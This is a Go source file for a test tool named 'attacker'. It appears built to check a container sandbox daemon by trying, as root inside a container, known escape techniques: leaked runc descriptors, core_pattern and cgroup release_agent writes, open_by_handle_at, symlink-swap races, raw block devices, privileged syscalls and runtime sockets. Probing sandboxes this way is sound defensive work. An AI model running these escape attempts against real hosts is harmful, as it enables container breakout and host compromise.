// Command attacker tries, as root of a container, to reach what it may not. It
// writes a line for each thing that worked, and "done" at the end.
//
// SECRET is half of a text, which follows it once more: so nothing that runs the
// attacker holds it.
//
//	attacker reach SECRET DIR OWN…    read, move, remove, replace, enter OWN in the volume DIR,
//	                                  and look for the text SECRET in all of DIR
//	attacker wait                     do nothing, for ever
//	attacker swap DIR TARGET          exchange DIR/x with a link to TARGET, for ever
//	attacker look SECRET DIR          look for the text SECRET in DIR
//	attacker hold DIR OWN…            have the directories OWN in DIR open, and try what that is
//	                                  good for when there is a file DIR/order-N, into DIR/said-N
//	attacker deaf DIR                 serve a file system in DIR/fuse that does not answer, have one wait
//	                                  for it that looks there, make a pipe DIR/pipe, and wait for ever
//	attacker escape SECRET            what broke out of containers elsewhere
package main

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"io"
	"io/fs"
	"net"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	runtime.LockOSThread()
	if len(os.Args) == 2 && os.Args[1] == "wait" {
		for {
			time.Sleep(time.Hour)
		}
	}
	if len(os.Args) < 3 {
		os.Exit(2)
	}
	switch args := os.Args[2:]; os.Args[1] {
	case "reach":
		for _, own := range args[2:] {
			reach(args[1], filepath.Join(args[1], own))
		}
		look(args[0], args[1])
	case "swap":
		swap(args[0], args[1])
	case "hold":
		hold(args[0], args[1:])
	case "look":
		look(args[0], args[1])
	case "deaf":
		deaf(args[0])
	case "escape":
		escape(args[0])
	default:
		os.Exit(2)
	}
	fmt.Println("done")
}

// worked tells of an attack that did.
func worked(format string, args ...any) { fmt.Printf("WORKED "+format+"\n", args...) }

// try tells of what returns no error.
func try(what, path string, err error) bool {
	if err == nil {
		worked("%s %s", what, path)
	}
	return err == nil
}

// look reads all files below dir, links aside.
func look(secret, dir string) {
	_ = filepath.WalkDir(dir, func(path string, e fs.DirEntry, err error) error {
		if err != nil || !e.Type().IsRegular() {
			return nil
		}
		if has(path, secret) {
			worked("reading %s", path)
		}
		return nil
	})
}

func has(path, secret string) bool {
	fd, err := unix.Open(path, unix.O_RDONLY|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
	if err != nil {
		return false
	}
	f := os.NewFile(uintptr(fd), path)
	defer f.Close()
	b, _ := io.ReadAll(io.LimitReader(f, 1<<20))
	return bytes.Contains(b, []byte(secret+secret))
}

// reach tries whatever could change or show one thing of the daemon's.
func reach(volume, own string) {
	evil := filepath.Join(volume, "evil")
	_ = os.WriteFile(evil, []byte("evil"), 0o755)
	defer os.Remove(evil)
	var st unix.Stat_t
	isDir := unix.Lstat(own, &st) == nil && st.Mode&unix.S_IFMT == unix.S_IFDIR
	connect(own)
	through(own)
	inside := own
	if isDir {
		inside = filepath.Join(own, "evil")
		if entries, err := os.ReadDir(own); err == nil && len(entries) > 0 {
			worked("listing %s: %v", own, entries)
		}
		try("making a folder in", own, os.Mkdir(filepath.Join(own, "dir"), 0o755))
		try("a link out of", own, os.Symlink("/", filepath.Join(own, "link")))
		// Names of what is there as a rule, whether it shows or not.
		for _, name := range []string{"sandboxes", "sandboxer.sock", "records.key", "web.yaml", "sandboxes/web/sandbox.json", "..data"} {
			_, err := os.Lstat(filepath.Join(own, name))
			try("seeing", filepath.Join(own, name), err)
		}
	} else {
		if b, err := os.ReadFile(own); err == nil && len(b) > 0 {
			worked("reading %s: %.40q", own, b)
		}
		try("truncating", own, os.Truncate(own, 0))
	}
	try("writing", inside, os.WriteFile(inside, []byte("evil"), 0o755))
	for path := own; len(path) > len(volume); path = filepath.Dir(path) {
		if try("renaming", path, os.Rename(path, path+".away")) {
			_ = os.Rename(path+".away", path)
		}
	}
	for what, flags := range map[string]int{"removing": 0, "removing the folder": unix.AT_REMOVEDIR} {
		try(what, own, unix.Unlinkat(unix.AT_FDCWD, own, flags))
	}
	try("replacing", own, os.Rename(evil, own))
	try("exchanging", own, unix.Renameat2(unix.AT_FDCWD, evil, unix.AT_FDCWD, own, unix.RENAME_EXCHANGE))
	try("a hard link to", own, unix.Linkat(unix.AT_FDCWD, own, unix.AT_FDCWD, own+".link", 0))
	try("a hard link in", own, unix.Link(evil, filepath.Join(own, "hard")))
	try("a device in", own, unix.Mknod(filepath.Join(own, "dev"), unix.S_IFCHR|0o666, 1<<8|3))
	var before, after unix.Stat_t
	if unix.Lstat(own, &before) == nil {
		_, _ = os.Chmod(own, 0o777), os.Lchown(own, 4711, 4711) // the sentry may say that it did
		if unix.Lstat(own, &after) == nil && (before.Mode != after.Mode || before.Uid != after.Uid) {
			worked("changing who may do what with %s", own)
		}
	}
	try("an attribute of", own, unix.Setxattr(own, "user.evil", []byte("x"), 0))
	byHandle(own)
}

// connect tries a path as a socket's.
func connect(path string) {
	for _, network := range []string{"unix", "unixpacket", "unixgram"} {
		if c, err := net.DialTimeout(network, path, time.Minute); err == nil {
			c.Close()
			worked("connecting to %s as %s", path, network)
		}
	}
}

// through goes by descriptors where names don't lead.
func through(own string) {
	fd, err := unix.Open(own, unix.O_PATH|unix.O_CLOEXEC, 0)
	if err != nil {
		return
	}
	defer unix.Close(fd)
	magic := fmt.Sprintf("/proc/self/fd/%d", fd)
	if entries, err := os.ReadDir(magic); err == nil && len(entries) > 0 {
		worked("listing %s by its descriptor: %v", own, entries)
	}
	try("writing by descriptor in", own, os.WriteFile(magic+"/evil", []byte("evil"), 0o600))
	for _, flags := range []int{unix.O_WRONLY, unix.O_RDWR, unix.O_TMPFILE | unix.O_RDWR} {
		if again, err := unix.Openat(unix.AT_FDCWD, magic, flags|unix.O_CLOEXEC, 0o600); err == nil {
			_, err := unix.Write(again, []byte("evil"))
			try("reopening for writing", own, err)
			unix.Close(again)
		}
	}
	// Away with what lies over it: a mount of the sandbox's own, made over and
	// taken off again.
	if unix.Unshare(unix.CLONE_NEWNS) == nil {
		for range 3 {
			try("unmounting", own, unix.Unmount(own, unix.MNT_DETACH))
		}
		bound := "/tmp/attacker"
		_ = os.MkdirAll(bound, 0o700)
		if unix.Mount(filepath.Dir(own), bound, "", unix.MS_BIND, "") == nil {
			if entries, err := os.ReadDir(filepath.Join(bound, filepath.Base(own))); err == nil && len(entries) > 0 {
				worked("listing %s in a bind mount: %v", own, entries)
			}
			_ = unix.Unmount(bound, unix.MNT_DETACH)
		}
	}
}

// byHandle opens by number: the way out of Docker's early days.
func byHandle(own string) {
	for ino := uint32(1); ino < 4; ino++ {
		dir, err := unix.Open(filepath.Dir(own), unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			return
		}
		handle := binary.LittleEndian.AppendUint32(binary.LittleEndian.AppendUint32(nil, ino), 0)
		fd, err := unix.OpenByHandleAt(dir, unix.NewFileHandle(1, handle), unix.O_RDONLY)
		if try("opening by handle from", own, err) {
			unix.Close(fd)
		}
		unix.Close(dir)
	}
}

// swap has DIR/x be a folder and a link to target by turns.
func swap(dir, target string) {
	x, link := filepath.Join(dir, "x"), filepath.Join(dir, "l")
	_ = os.MkdirAll(filepath.Join(x, "y"), 0o755)
	if err := os.Symlink(target, link); err != nil && !os.IsExist(err) {
		fmt.Println(err)
		os.Exit(1)
	}
	fmt.Println("swapping")
	for {
		if unix.Renameat2(unix.AT_FDCWD, x, unix.AT_FDCWD, link, unix.RENAME_EXCHANGE) != nil {
			// Without an exchange the name is missing for a moment.
			_ = os.Rename(x, x+".away")
			_ = os.Rename(link, x)
			_ = os.Rename(x, link)
			_ = os.Rename(x+".away", x)
		}
	}
}

// escape is the ways out of containers that others had.
func escape(secret string) {
	// What the container's own processes have open (runc's leaked descriptors),
	// and their programs and roots (runc's overwritten binary).
	procs, _ := filepath.Glob("/proc/[0-9]*")
	for _, proc := range append(procs, "/proc/self") {
		fds, _ := filepath.Glob(proc + "/fd/*")
		for _, fd := range fds {
			for _, up := range []string{"", "/..", "/../..", "/../../../../../.."} {
				if entries, err := os.ReadDir(fd + up); err == nil && hostly(entries) {
					worked("a directory of the host behind %s%s", fd, up)
				}
			}
		}
		exe, err := os.Readlink(proc + "/exe")
		if err == nil && (strings.Contains(exe, "runsc") || strings.Contains(exe, "sandboxer")) {
			worked("seeing the runtime's program %s as %s", exe, proc)
		}
		if entries, err := os.ReadDir(proc + "/cwd/../../../.."); err == nil && hostly(entries) {
			worked("a working directory of the host's: %s", proc)
		}
	}
	// What has the host's kernel act or tell.
	for _, path := range []string{
		"/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hotplug", "/proc/sys/vm/panic_on_oom", "/proc/sysrq-trigger",
		"/proc/sys/fs/binfmt_misc/register", "/sys/kernel/uevent_helper", "/sys/fs/cgroup/release_agent", "/proc/kcore", "/proc/kallsyms", "/proc/keys",
		"/proc/latency_stats", "/proc/sched_debug", "/proc/timer_list", "/dev/mem", "/dev/kmem", "/dev/kmsg", "/proc/kmsg", "/sys/kernel/debug", "/sys/kernel/security",
		"/dev/sda", "/dev/vda", "/dev/nvme0n1", "/dev/kvm", "/dev/fuse",
	} {
		f, err := os.OpenFile(path, os.O_WRONLY, 0)
		if err == nil {
			_, err = f.WriteString("x")
			f.Close()
		}
		try("writing", path, err)
	}
	// A cgroup's release_agent, and devices that the kernel has by number.
	for _, dir := range []string{"/tmp/attacker-mount", "/tmp/attacker-dev"} {
		_ = os.MkdirAll(dir, 0o700)
	}
	for _, controller := range []string{"memory", "rdma", "devices", "cpu"} {
		if unix.Mount("cgroup", "/tmp/attacker-mount", "cgroup", 0, controller) == nil {
			_, err := os.Lstat("/tmp/attacker-mount/release_agent")
			if err == nil {
				try("writing", controller+"'s release_agent", os.WriteFile("/tmp/attacker-mount/release_agent", []byte("/evil"), 0))
			}
			_ = unix.Unmount("/tmp/attacker-mount", unix.MNT_DETACH)
		}
	}
	for major := 1; major < 260; major++ {
		dev := fmt.Sprintf("/tmp/attacker-dev/%d", major)
		if unix.Mknod(dev, unix.S_IFBLK|0o600, int(unix.Mkdev(uint32(major), 0))) != nil {
			continue
		}
		if fd, err := unix.Open(dev, unix.O_RDONLY|unix.O_NONBLOCK, 0); err == nil {
			unix.Close(fd)
			worked("opening the block device %d:0", major)
		}
	}
	for what, number := range map[string]uintptr{
		"bpf": unix.SYS_BPF, "perf_event_open": unix.SYS_PERF_EVENT_OPEN, "userfaultfd": unix.SYS_USERFAULTFD, "init_module": unix.SYS_INIT_MODULE,
		"finit_module": unix.SYS_FINIT_MODULE, "kexec_load": unix.SYS_KEXEC_LOAD, "keyctl": unix.SYS_KEYCTL, "io_uring_setup": unix.SYS_IO_URING_SETUP,
		"reboot": unix.SYS_REBOOT, "swapon": unix.SYS_SWAPON, "open_by_handle_at": unix.SYS_OPEN_BY_HANDLE_AT, "move_mount": unix.SYS_MOVE_MOUNT,
		"pidfd_getfd": unix.SYS_PIDFD_GETFD,
	} {
		if _, _, errno := unix.Syscall6(number, 0, 0, 0, 0, 0, 0); errno == 0 {
			worked("the system call %s", what)
		}
	}
	for _, name := range []string{"/run/docker.sock", "/run/containerd/containerd.sock", "/run/sandboxer/sandboxer.sock", "/run/dbus/system_bus_socket", "/run/systemd/private", "\x00/tmp/dbus"} {
		connect(name)
	}
	look(secret, "/")
}

// hostly says whether a directory is one of the host's.
func hostly(entries []os.DirEntry) bool {
	names := map[string]bool{}
	for _, e := range entries {
		names[e.Name()] = true
	}
	return names["etc"] && names["usr"] && names["home"]
}
